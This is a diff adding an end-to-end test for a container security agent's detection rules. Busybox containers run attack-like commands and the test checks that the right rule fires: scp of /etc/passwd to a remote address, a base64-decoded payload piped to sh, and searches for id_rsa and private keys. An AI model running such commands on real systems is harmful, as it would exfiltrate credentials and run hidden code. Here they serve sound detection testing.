@@ -1,0 +1,153 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { existsSync, readFileSync } from 'node:fs';
+import type { SecurityEvent } from '../../src/events/event.js';
+import { agentFixture, withAgent } from '../support/agent-run.js';
+import { containerPid, importBusybox, putFile, removeContainer, runContainer } from '../support/busybox.js';
+import { have } from '../support/require.js';
+import { waitUntil } from '../support/wait.js';
+
+// The default rules about programs (issue 14, items 2 and acceptance 1), end to end: real
+// dockerd, kernel audit, the agent with its default rules. Each container's own command does
+// one thing once the agent watches it (it waits for /tmp/go): installs a package, copies a file
+// to another host, pipes a decoded payload into a shell, searches for private keys, has its
+// "web server" start a shell; an interactive shell comes through docker exec -t. The near
+// misses — an entrypoint script with a terminal and its subshells, decoding to a file, a shell
+// fed by echo, a search for logs, a worker starting a shell — raise none of these rules.
+// bulwark-test: exclusive (agent: kernel audit state)
+
+const IMAGE = 'bulwark-test/busybox:rules-processes';
+const RULES = new Set([
+  'Shell in container',
+  'Package manager in container',
+  'Remote copy tool in container',
+  'Decoded payload piped to a shell',
+  'Credential search in container',
+  'Shell spawned by a service',
+]);
+const NEEDS = { 'docker CLI (Debian docker.io)': have('docker') };
+
+const script = (body: string): Buffer => Buffer.from(`#!/bin/sh\n${body}\n`);
+
+const fixture = agentFixture(NEEDS, [IMAGE], async () => {
+  const bb = readFileSync('/bin/busybox');
+  await importBusybox('bulwark-test/busybox', 'rules-processes', ['cat'], {
+    'bin/find': bb,
+    'bin/grep': bb,
+    'bin/base64': bb,
+    'bin/sed': bb,
+    // stand-ins with the real names: what the rules see is the program's name and arguments
+    'usr/bin/apt-get': script('exit 0'),
+    'usr/bin/scp': script('exit 0'),
+    'usr/sbin/nginx': script('sh -c "id > /tmp/who"; sleep 1'),
+    'usr/bin/worker': script('sh -c "date > /tmp/when"; sleep 1'),
+  });
+});
+
+const WAIT = 'until [ -e /tmp/go ]; do sleep 0.05; done; ';
+
+interface Case {
+  name: string;
+  cmd: string;
+  /** The rule it must raise (and no other of RULES); undefined: a near miss, none. */
+  rule?: string;
+  exe?: RegExp;
+  tty?: boolean;
+}
+
+// (busybox's shell runs some applets, find among them, without an exec: named by path, they are
+// programs of their own, as they are in real images)
+const CASES: Case[] = [
+  { name: 'apt', cmd: 'apt-get install -y nmap', rule: 'Package manager in container', exe: /busybox$/ },
+  { name: 'scp', cmd: 'scp /etc/passwd backup@203.0.113.9:/tmp', rule: 'Remote copy tool in container' },
+  { name: 'decode', cmd: 'echo aWQgPiAvdG1wL3BheWxvYWQK | base64 -d | sh', rule: 'Decoded payload piped to a shell' },
+  { name: 'keys', cmd: '/bin/find / -xdev -name id_rsa', rule: 'Credential search in container' },
+  { name: 'keys-grep', cmd: 'grep -rl "PRIVATE KEY" /etc', rule: 'Credential search in container' },
+  { name: 'webshell', cmd: 'nginx', rule: 'Shell spawned by a service' },
+  // near misses
+  { name: 'entry-tty', cmd: 'sh -c "echo hi; sh -c id"; sed -n 1p /etc/passwd', tty: true },
+  { name: 'decode-file', cmd: 'echo aGVsbG8K | base64 -d > /tmp/hello; base64 /tmp/hello | sh -c "cat > /tmp/x"' },
+  { name: 'stdin-shell', cmd: 'echo id | sh' },
+  { name: 'logs', cmd: '/bin/find / -xdev -name "*.log"; grep -r root /etc/passwd' },
+  { name: 'worker', cmd: 'worker' },
+];
+
+/** The events of RULES raised in this container. */
+function ours(events: readonly SecurityEvent[], id: string): SecurityEvent[] {
+  return events.filter((e) => e.container?.id === id && RULES.has(e.rule));
+}
+
+async function startCases(run: string): Promise<Map<string, string>> {
+  const ids = new Map<string, string>();
+  await Promise.all(
+    CASES.map(async (c) => {
+      const id = await runContainer(IMAGE, ['sh', '-c', `${WAIT}${c.cmd}; touch /tmp/done; sleep 300`], {
+        name: `bulwark-proc-${c.name}-${run}`,
+        ...(c.tty ? { tty: true } : {}),
+      });
+      ids.set(c.name, id);
+    }),
+  );
+  return ids;
+}
+
+function dockerExecTty(id: string, cmd: string[]): Promise<number | null> {
+  // asynchronously: the agent runs in this process and must stay free to answer fanotify
+  return new Promise((resolve) => spawn('docker', ['exec', '-t', id, ...cmd], { stdio: 'ignore' }).on('exit', resolve));
+}
+
+test('each program rule fires on its technique, exactly once and alone; the near misses raise nothing', async (t) => {
+  if (!(await fixture.gate(t))) return;
+  const ids = await startCases(String(process.pid));
+  const pids = new Map<string, number>();
+  try {
+    for (const [name, id] of ids) pids.set(name, await containerPid(id));
+    await withAgent(fixture.dir(), {}, async (events) => {
+      await Promise.all([...ids.values()].map((id) => putFile(id, '/tmp', 'go', Buffer.from(''))));
+      const shellId = ids.get('logs')!;
+      assert.equal(await dockerExecTty(shellId, ['sh', '-c', 'id; sh -c true']), 0);
+      const wanted = CASES.filter((c) => c.rule);
+      await waitUntil(
+        'every command done',
+        () => [...pids.values()].every((pid) => existsSync(`/proc/${pid}/root/tmp/done`)),
+        {
+          timeoutMs: 15_000,
+        },
+      );
+      await waitUntil(
+        'the rule of each technique',
+        () => wanted.every((c) => ours(events, ids.get(c.name)!).length > 0),
+        { timeoutMs: 15_000 },
+      ).catch(() => undefined); // the assertions below say which is missing
+      // the agent read what the near misses did with the rest: a second for stragglers
+      await new Promise((r) => setTimeout(r, 1000));
+      for (const c of CASES) {
+        const id = ids.get(c.name)!;
+        const got = ours(events, id).filter((e) => !(c.name === 'logs' && e.rule === 'Shell in container'));
+        const seen =
+          JSON.stringify(got.map((e) => [e.rule, e.message])) +
+          ` (all: ${JSON.stringify(events.filter((e) => e.container?.id === id).map((e) => [e.rule, e.message]))})`;
+        if (!c.rule) {
+          assert.deepEqual(got, [], `${c.name}: ${seen}`);
+          continue;
+        }
+        assert.deepEqual(
+          got.map((e) => e.rule),
+          [c.rule],
+          `${c.name}: ${seen}`,
+        );
+        const e = got[0]!;
+        assert.equal(e.container?.image, IMAGE);
+        assert.ok(e.process?.exe, `${c.name}: process exe`);
+        if (c.exe) assert.match(e.process!.exe!, c.exe);
+      }
+      const shell = ours(events, shellId).filter((e) => e.rule === 'Shell in container');
+      assert.equal(shell.length, 1, JSON.stringify(shell.map((e) => e.message)));
+      assert.match(shell[0]!.message, /on terminal pts/);
+      assert.deepEqual(shell[0]!.process?.args, ['sh', '-c', 'id; sh -c true']);
+    });
+  } finally {
+    await Promise.all([...ids.values()].map((id) => removeContainer(id)));
+  }
+});
